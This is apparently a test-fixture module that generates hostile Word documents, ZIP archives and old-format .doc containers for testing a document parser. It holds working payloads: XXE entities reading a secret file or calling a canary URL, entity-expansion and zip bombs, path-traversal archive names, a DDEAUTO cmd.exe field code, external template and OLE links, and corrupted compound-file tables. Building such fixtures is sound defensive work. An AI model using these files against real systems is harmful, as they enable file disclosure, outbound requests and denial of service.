// Word files, ZIP archives and old Word files that are made to hurt their reader. Each maker returns {name, bytes}.
import { deflateRawSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { contentTypes as types, office, packageRelations as rels } from './word-package.mjs';

const open = `<w:document xmlns:w="${office}/wordprocessingml/2006/main" xmlns:r="${office}/officeDocument/2006/relationships"><w:body>`;
const close = '</w:body></w:document>';
const paragraph = (text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const honest = [
  'Robin Reader',
  'robin@example.com',
  'Experience',
  'Clerk, Example Freight, 2019 - 2024',
  'Booked goods.',
]
  .map(paragraph)
  .join('');

const parts = (body, more = {}) => ({
  '[Content_Types].xml': strToU8(types),
  '_rels/.rels': strToU8(rels),
  'word/document.xml': strToU8(body.startsWith('<?xml') || body.startsWith('<!') ? body : `${open}${body}${close}`),
  ...Object.fromEntries(
    Object.entries(more).map(([name, text]) => [name, typeof text === 'string' ? strToU8(text) : text]),
  ),
});
const zip = (body, more) => Buffer.from(zipSync(parts(body, more), { level: 6 }));
const documentRels = (inner) =>
  `<?xml version="1.0"?><Relationships xmlns="${office}/package/2006/relationships">${inner}</Relationships>`;
const rel = (id, type, target) =>
  `<Relationship Id="${id}" Type="${office}/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;

/** Markup inside a document that opens, asks outside or never ends. `canary` is an address that nothing may ask. */
const markup = (canary, secretFile) => ({
  'entity file': `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file://${secretFile}">]>${open}${paragraph('&x;')}${honest}${close}`,
  'entity http': `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "${canary}entity">]>${open}${paragraph('&x;')}${honest}${close}`,
  'parameter entity': `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % x SYSTEM "${canary}dtd"> %x;]>${open}${honest}${close}`,
  'external dtd': `<?xml version="1.0"?><!DOCTYPE w PUBLIC "-//A//B" "${canary}public">${open}${honest}${close}`,
  xinclude: `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secretFile}" parse="text"/>${honest}`,
  stylesheet: `<?xml version="1.0"?><?xml-stylesheet href="${canary}xsl" type="text/xsl"?>${open}${honest}${close}`,
  'quadratic entity': `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x "${'x'.repeat(60_000)}">]>${open}${paragraph('&x;'.repeat(60_000))}${close}`,
  'recursive entity': `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${open}${paragraph('&a;')}${close}`,
  'numeric characters': paragraph('&#0;&#xFFFFFFFF;&#x110000;&#xD800;'.repeat(2_000)),
  'deep runs': `<w:p>${'<w:smartTag>'.repeat(50_000)}${'</w:smartTag>'.repeat(50_000)}</w:p>`,
  'deep tables': `${'<w:tbl><w:tr><w:tc>'.repeat(3_000)}${paragraph('a')}${'</w:tc></w:tr></w:tbl>'.repeat(3_000)}`,
  'deep text boxes': `${'<w:p><w:r><w:pict><w:txbxContent>'.repeat(2_000)}a${'</w:txbxContent></w:pict></w:r></w:p>'.repeat(2_000)}`,
  'never closed': `<?xml version="1.0"?>${open}${'<w:p><w:r><w:t>a'.repeat(40_000)}`,
  'wide table': `<w:tbl><w:tr>${`<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>${paragraph('a')}</w:tc>`.repeat(5_000)}</w:tr></w:tbl>`,
  'many attributes': `<w:p ${Array.from({ length: 60_000 }, (_, index) => `a${index}="1"`).join(' ')}>${honest}</w:p>`,
  'a long attribute': `<w:p w:x="${'y'.repeat(4_000_000)}">${honest}</w:p>`,
  'a long name': `<${'n'.repeat(1_000_000)}>${honest}</${'n'.repeat(1_000_000)}>`,
  'many namespaces': `<w:p ${Array.from({ length: 20_000 }, (_, index) => `xmlns:n${index}="u${index}"`).join(' ')}/>${honest}`,
  'one long word': paragraph('a'.repeat(3_000_000)),
  'many spaces': paragraph(`a${' '.repeat(1_000_000)}b`),
  'many paragraphs': paragraph('a').repeat(150_000),
  'many tabs': `<w:p><w:r>${'<w:tab/>'.repeat(200_000)}<w:t>a</w:t></w:r></w:p>`,
  'many breaks': `<w:p><w:r>${'<w:br/>'.repeat(200_000)}<w:t>a</w:t></w:r></w:p>`,
  'a long list of at signs': paragraph('a@'.repeat(100_000)),
  'a long list of dates': paragraph('Jan 2019 - Present '.repeat(20_000)),
  'right to left': paragraph('\u202e\u2067'.repeat(20_000)),
  'combining marks': paragraph(`a${'\u0301'.repeat(300_000)}`),
  'comment bomb': `<!--${'-'.repeat(0)}${'x'.repeat(3_000_000)}-->${honest}`,
  cdata: `<w:p><w:r><w:t><![CDATA[${'<'.repeat(500_000)}]]></w:t></w:r></w:p>`,
  'field code': `<w:p><w:r><w:instrText>INCLUDETEXT "file://${secretFile}" DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>${honest}`,
  script: `${paragraph('&lt;script&gt;alert(1)&lt;/script&gt;')}${honest}`,
  typst: `${paragraph(`#read("${secretFile}") #include "/etc/passwd"`)}${honest}`,
  nothing: ' ',
});

const relations = (canary, secretFile) => ({
  'attached template': rel('r1', 'attachedTemplate', `${canary}template.dotm`),
  'external image': rel('r1', 'image', `${canary}image.png`),
  'file image': rel('r1', 'image', `file://${secretFile}`),
  'sub document': rel('r1', 'subDocument', `${canary}sub.docx`),
  frame: rel('r1', 'frame', `${canary}frame.html`),
  ole: rel('r1', 'oleObject', `file:////127.0.0.1/share/a`),
  'alt chunk': rel('r1', 'aFChunk', `${canary}chunk.html`),
  'a traversal': '<Relationship Id="r1" Type="x/styles" Target="../../../../../etc/passwd"/>',
  'a loop': `<Relationship Id="r1" Type="${office}/officeDocument/2006/relationships/header" Target="document.xml"/>`,
  'many relations': Array.from({ length: 30_000 }, (_, index) => rel(`r${index}`, 'image', `${canary}${index}`)).join(
    '',
  ),
});

const styles = (inner) => `<w:styles xmlns:w="${office}/wordprocessingml/2006/main">${inner}</w:styles>`;
const extras = {
  'styles in a ring': {
    'word/styles.xml': styles(
      '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>',
    ),
  },
  'a chain of styles': {
    'word/styles.xml': styles(
      Array.from(
        { length: 40_000 },
        (_, n) => `<w:style w:styleId="s${n}"><w:basedOn w:val="s${n + 1}"/></w:style>`,
      ).join(''),
    ),
  },
  'numbering without end': {
    'word/numbering.xml': [
      `<w:numbering xmlns:w="${office}/wordprocessingml/2006/main">`,
      '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'.repeat(50_000),
      '</w:numbering>',
    ].join(''),
  },
  'two million notes': { 'word/footnotes.xml': `<w:footnotes>${'<w:footnote/>'.repeat(300_000)}</w:footnotes>` },
  'names that climb': {
    '../../../../tmp/foothold-was-here': 'a',
    '/etc/foothold-was-here': 'a',
    'word/..\\..\\a': 'a',
  },
  'names like objects': { __proto__x: 'a', 'constructor/prototype': 'a', 'word/__proto__': 'a' },
  macros: { 'word/vbaProject.bin': 'Attribute VB_Name' },
};

/** The archive itself: entry by entry, with any lie about it. */
function archive(entries, { comment = '', count = entries.length, at } = {}) {
  const pieces = [];
  const directory = [];
  let offset = 0;
  for (const {
    name,
    data,
    size = data.length,
    method = 8,
    flags = 0,
    crc = 0,
    packed = method === 8 ? deflateRawSync(data) : data,
  } of entries) {
    const path = Buffer.from(name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(flags, 2);
    common.writeUInt16LE(method, 4);
    common.writeUInt32LE(crc >>> 0, 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(size >>> 0, 18);
    common.writeUInt16LE(path.length, 22);
    pieces.push(Buffer.concat([Buffer.from('PK\x03\x04'), common, path, packed]));
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(at ?? offset, 10);
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), common, rest, path]));
    offset += 30 + path.length + packed.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(count & 0xffff, 4);
  end.writeUInt16LE(count & 0xffff, 6);
  end.writeUInt32LE(list.length, 8);
  end.writeUInt32LE(offset, 12);
  end.writeUInt16LE(comment.length, 16);
  return Buffer.concat([...pieces, list, Buffer.from('PK\x05\x06'), end, Buffer.from(comment)]);
}

function archives() {
  const usual = [
    { name: '[Content_Types].xml', data: Buffer.from(types) },
    { name: '_rels/.rels', data: Buffer.from(rels) },
  ];
  const document = (data, more) => ({ name: 'word/document.xml', data, ...more });
  const text = Buffer.from(`${open}${honest}${close}`);
  const zeros = Buffer.alloc(150_000_000);
  const spaces = Buffer.concat([Buffer.from(open), Buffer.alloc(150_000_000, 32), Buffer.from(close)]);
  const packedZeros = deflateRawSync(zeros);
  return {
    zeros: archive([...usual, document(zeros, { packed: packedZeros })]),
    'zeros said to be ten': archive([...usual, document(Buffer.alloc(10), { size: 10, packed: packedZeros })]),
    spaces: archive([...usual, document(spaces)]),
    'the same bytes a thousand times': archive(
      [
        ...usual,
        document(text),
        ...Array.from({ length: 1_000 }, (_, n) => ({
          name: `word/media/${n}.xml`,
          data: Buffer.alloc(0),
          size: zeros.length,
          packed: n === 0 ? packedZeros : Buffer.alloc(0),
        })),
      ],
      { at: 0 },
    ),
    'sixty thousand entries': archive([
      ...usual,
      document(text),
      ...Array.from({ length: 60_000 }, (_, n) => ({ name: `w/${n}`, data: Buffer.alloc(0), method: 0 })),
    ]),
    'more entries than there are': archive([...usual, document(text)], { count: 65_535 }),
    'no entries at all': archive([]),
    'two documents': archive([...usual, document(text), document(Buffer.from('<a/>'))]),
    encrypted: archive([...usual, document(text, { flags: 1 })]),
    'an unknown method': archive([...usual, document(text, { method: 99 })]),
    'stored but said to be packed': archive([...usual, document(text, { method: 8, packed: text })]),
    'packed but said to be stored': archive([...usual, document(text, { method: 0, packed: deflateRawSync(text) })]),
    'a length below zero': archive([...usual, document(text, { size: 0xffffffff })]),
    'a long comment': archive([...usual, document(text)], { comment: 'PK\x05\x06'.repeat(16_000) }),
    'entries beyond the end': archive([...usual, document(text)], { at: 0x7fffffff }),
    'nested archives': archive([
      ...usual,
      document(text),
      {
        name: 'a.zip',
        data: archive([{ name: 'b.zip', data: archive([{ name: 'c', data: zeros, packed: packedZeros }]) }]),
      },
    ]),
    'a name of 60,000 letters': archive([...usual, document(text), { name: 'n'.repeat(60_000), data: text }]),
    'names with nothing in them': archive([
      ...usual,
      document(text),
      { name: '\0', data: text },
      { name: '', data: text },
    ]),
  };
}

/** An old Word file's container with its tables bent. */
function compound(bend) {
  const sector = 512;
  const bytes = Buffer.alloc(sector * 8);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(bytes);
  bytes.writeUInt16LE(0x3e, 24);
  bytes.writeUInt16LE(3, 26);
  bytes.writeUInt16LE(0xfffe, 28);
  bytes.writeUInt16LE(9, 30);
  bytes.writeUInt16LE(6, 32);
  bytes.writeUInt32LE(1, 44);
  bytes.writeUInt32LE(1, 48);
  bytes.writeUInt32LE(4096, 56);
  bytes.writeUInt32LE(0xfffffffe, 60);
  bytes.writeUInt32LE(0xfffffffe, 68);
  bytes.fill(0xff, 76, 512);
  bytes.writeUInt32LE(0, 76);
  bytes.fill(0xff, 512, 1024);
  bytes.writeUInt32LE(0xfffffffd, 512);
  bytes.writeUInt32LE(0xfffffffe, 516);
  const entry = (at, name, type, child, start, size) => {
    bytes.write(name, at, 'utf16le');
    bytes.writeUInt16LE((name.length + 1) * 2, at + 64);
    bytes.writeUInt8(type, at + 66);
    bytes.writeInt32LE(-1, at + 68);
    bytes.writeInt32LE(-1, at + 72);
    bytes.writeInt32LE(child, at + 76);
    bytes.writeUInt32LE(start >>> 0, at + 116);
    bytes.writeUInt32LE(size >>> 0, at + 120);
  };
  entry(1024, 'Root Entry', 5, 1, 0xfffffffe, 0);
  entry(1152, 'WordDocument', 2, -1, 2, 4096);
  entry(1280, '1Table', 2, -1, 3, 4096);
  bend(bytes);
  return bytes;
}

const bends = {
  'a ring of sectors': (bytes) => [2, 3, 4].forEach((n) => bytes.writeUInt32LE(n === 4 ? 2 : n + 1, 512 + n * 4)),
  'a directory in a ring': (bytes) => bytes.writeUInt32LE(1, 516),
  'a tree in a ring': (bytes) => [1152 + 68, 1152 + 72, 1280 + 68].forEach((at) => bytes.writeInt32LE(1, at)),
  'sectors of two gigabytes': (bytes) => bytes.writeUInt16LE(31, 30),
  'small sectors of any size': (bytes) => bytes.writeUInt16LE(255, 32),
  'more tables than sectors': (bytes) => bytes.writeUInt32LE(0xffffffff, 44),
  'a list of tables in a ring': (bytes) => [
    bytes.writeUInt32LE(2, 68),
    bytes.writeUInt32LE(0xffffffff, 72),
    bytes.writeUInt32LE(2, 1536 + 508),
  ],
  'a stream of four gigabytes': (bytes) => bytes.writeUInt32LE(0xffffffff, 1152 + 120),
  'a stream outside': (bytes) => bytes.writeUInt32LE(0x7ffffff0, 1152 + 116),
  'text positions outside': (bytes) => {
    bytes.writeUInt16LE(0xa5ec, 512 * 3);
    bytes.writeUInt16LE(0x0200, 512 * 3 + 10);
    for (let at = 24; at < 500; at += 4) bytes.writeUInt32LE(0xfffffff0, 512 * 3 + at);
  },
  nothing: () => undefined,
};

/** All of them; `canary` is an address that nothing may ask, `secretFile` a file that nothing may read. */
export function hostileWordFiles({ canary, secretFile }) {
  const named = (prefix, files, extension = 'docx') =>
    Object.entries(files).map(([name, bytes]) => ({ name: `${prefix}: ${name}.${extension}`, bytes }));
  const bodies = Object.entries(markup(canary, secretFile)).map(([name, body]) => [name, zip(body)]);
  const related = Object.entries(relations(canary, secretFile)).map(([name, inner]) => [
    name,
    zip(`${honest}<w:altChunk r:id="r1"/>`, { 'word/_rels/document.xml.rels': documentRels(inner) }),
  ]);
  const more = Object.entries(extras).map(([name, files]) => [name, zip(honest, files)]);
  const old = Object.entries(bends).map(([name, bend]) => [name, compound(bend)]);
  return [
    ...named('markup', Object.fromEntries(bodies)),
    ...named('relation', Object.fromEntries(related)),
    ...named('parts', Object.fromEntries(more)),
    ...named('archive', archives()),
    ...named('compound', Object.fromEntries(old), 'doc'),
  ];
}
